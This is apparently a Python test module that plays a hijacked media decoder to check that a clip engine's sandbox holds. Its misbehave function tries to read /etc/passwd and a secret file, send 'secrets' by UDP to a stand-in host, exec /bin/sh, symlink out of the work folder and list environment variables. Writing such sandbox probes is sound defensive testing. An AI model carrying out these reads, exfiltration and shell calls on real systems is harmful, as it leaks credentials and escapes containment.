"""What a decoder that a stranger has taken over might try; runs in the sandbox of the clip engine."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path

from src.models.media_source import TimeRange
from src.models.outcome import Note, NoteCode
from src.models.progress import Monitor, Progress
from src.services.cutting.engine.model import ClipReport
from src.utils.sandbox import SandboxRules, locked_into

_NOWHERE = TimeRange(Fraction(0), Fraction(1))


def _tried(name: str, action: Callable[[], object]) -> str:
    try:
        action()
    except OSError as error:
        return f"{name}: {type(error).__name__}"
    return f"{name}: done"


def misbehave(outside: Path, work: Path, port: int, monitor: Monitor) -> list[ClipReport]:
    """Tell in the notes what could be done."""

    def say() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"secrets", ("192.0.2.1", 53))

    notes = (
        _tried("read", (outside / "secret").read_text),
        _tried("write", lambda: (outside / "new").write_text("x")),
        _tried("list", lambda: list(outside.iterdir())),
        _tried("passwd", Path("/etc/passwd").read_text),
        _tried("connect", lambda: socket.create_connection(("127.0.0.1", port), timeout=2).close()),
        _tried("datagram", say),
        _tried("program", lambda: os.execv("/bin/sh", ["/bin/sh", "-c", "true"])),  # noqa: S606
        _tried("own file", lambda: (work / "own").write_text("x")),
        _tried("link", lambda: (work / "link").symlink_to(outside / "secret")),
        _tried("pipe", lambda: os.mkfifo(work / "pipe")),
        f"environment: {sorted(set(os.environ) - {'LC_CTYPE'})}",
    )
    monitor.report(Progress())
    return [ClipReport(_NOWHERE, _NOWHERE, "smart", 0, 0, 0, tuple(Note(NoteCode.TARGET, note) for note in notes))]


def die(monitor: Monitor) -> list[ClipReport]:
    """End as after a fault of memory."""
    os.kill(os.getpid(), signal.SIGSEGV)
    return []


def lie(what: str, monitor: Monitor, refresh: object = None) -> list[ClipReport]:
    """Say something that is no answer."""
    os.write(int(sys.argv[1]), what.encode())
    time.sleep(60)
    return []


def hang(monitor: Monitor) -> list[ClipReport]:
    """Never answer."""
    time.sleep(600)
    return []


def connects(folder: Path) -> str:
    """What becomes of a connection to a listener of this machine from a program in a sandbox with these files."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 5)"
        python = Path(sys.executable)
        reads = (Path(sys.prefix), Path(sys.base_prefix, "lib"))
        sandbox = SandboxRules(reads=reads, writes=(folder,), programs=(python, python.resolve()))
        with locked_into(sandbox) as enter:
            done = subprocess.run(
                [python, "-I", "-S", "-c", code], preexec_fn=enter, capture_output=True, text=True, check=False
            )
    return "done" if done.returncode == 0 else done.stderr.strip().splitlines()[-1]
